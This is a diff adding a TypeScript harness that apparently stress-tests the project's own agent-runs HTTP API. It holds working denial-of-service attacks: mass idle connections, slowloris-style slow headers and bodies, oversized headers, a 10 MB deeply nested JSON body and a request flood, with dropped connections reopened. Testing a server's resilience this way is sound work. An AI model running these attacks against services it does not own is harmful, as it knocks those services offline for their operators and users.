@@ -1,0 +1,106 @@
+import { connect, type Socket } from 'node:net';
+
+export interface Target {
+  readonly host: string;
+  readonly port: number;
+  readonly key: string;
+}
+
+/** What an attack has seen. */
+export interface Tally {
+  /** Connections that are open. */
+  open: number;
+  /** Connections that the server has closed. */
+  closed: number;
+  /** Answers, by their status. */
+  readonly answers: Record<string, number>;
+}
+
+/** What one connection of an attack does, for as long as it is open. */
+interface Attack {
+  readonly connections: number;
+  /** Sent when the connection is open. */
+  readonly begin: (target: Target) => string | Buffer;
+  /** Sent each second. */
+  readonly drip?: string;
+  /** Sent after each answer. */
+  readonly again?: (target: Target) => string;
+}
+
+const get = ({ host, key }: Target): string =>
+  `GET /runs HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${key}\r\n`;
+const post = ({ host, key }: Target, length: number): string =>
+  `POST /runs HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${key}\r\n` +
+  `Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
+const run = JSON.stringify({ agent_name: 'echo', input: [{ parts: [{ content: 'hi' }] }] });
+const create = (target: Target): string => post(target, run.length) + run;
+const deep = Buffer.concat([
+  Buffer.from('{"agent_name":"echo","input":[],"x":'),
+  Buffer.alloc(5_000_000, '['),
+  Buffer.alloc(5_000_000, ']'),
+  Buffer.from('}'),
+]);
+
+export const attacks = {
+  idle: { connections: 10_000, begin: () => '' },
+  'slow headers': { connections: 1_000, begin: (target) => `${get(target)}X-Slow: `, drip: 'a' },
+  'slow bodies': { connections: 500, begin: (target) => `${post(target, 100_000)}{`, drip: ' ' },
+  'line feeds': { connections: 500, begin: (target) => `${get(target)}\r\n`, drip: '\r\n' },
+  'large headers': { connections: 8, begin: (target) => `${get(target)}X-Large: ${'a'.repeat(1_000_000)}\r\n\r\n` },
+  'deep bodies': { connections: 2, begin: (target) => Buffer.concat([Buffer.from(post(target, deep.length)), deep]) },
+  flood: { connections: 32, begin: create, again: create },
+} satisfies Record<string, Attack>;
+export type AttackName = keyof typeof attacks;
+
+/** Keeps so many connections of an attack open; those that the server closes are opened again. */
+export class Attacker {
+  readonly tally: Tally = { open: 0, closed: 0, answers: {} };
+  readonly #attack: Attack;
+  readonly #target: Target;
+  readonly #first: Buffer;
+  readonly #sockets = new Set<Socket>();
+
+  constructor(name: AttackName, target: Target) {
+    this.#attack = attacks[name];
+    this.#target = target;
+    this.#first = Buffer.from(this.#attack.begin(target));
+  }
+
+  /** Resolves when all connections were opened. */
+  async start(connections: number): Promise<void> {
+    for (let begun = 0; begun < connections; begun += 10) {
+      await Promise.all(Array.from({ length: Math.min(10, connections - begun) }, () => this.#open()));
+    }
+  }
+
+  #open(): Promise<void> {
+    const { host, port } = this.#target;
+    const { again, drip } = this.#attack;
+    return new Promise((resolve) => {
+      const socket = connect(port, host, () => {
+        this.tally.open += 1;
+        this.#sockets.add(socket);
+        if (this.#first.length > 0) socket.write(this.#first);
+        // Of each connection its own, so that they are spread over the second.
+        const timer = setInterval(() => drip && socket.write(drip), 1_000);
+        socket.on('close', () => clearInterval(timer));
+        resolve();
+      });
+      socket.on('data', (data) => {
+        for (const [, status = ''] of data.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g)) {
+          this.tally.answers[status] = (this.tally.answers[status] ?? 0) + 1;
+          if (again !== undefined) socket.write(again(this.#target));
+        }
+      });
+      // A reset closes the connection as well.
+      socket.on('error', () => {});
+      socket.on('close', () => {
+        if (this.#sockets.delete(socket)) this.tally.open -= 1;
+        this.tally.closed += 1;
+        resolve();
+        // Not at once, and not all together: this measures attacks, and not how fast connections are accepted.
+        setTimeout(() => void this.#open(), Math.random() * 1_000);
+      });
+    });
+  }
+}
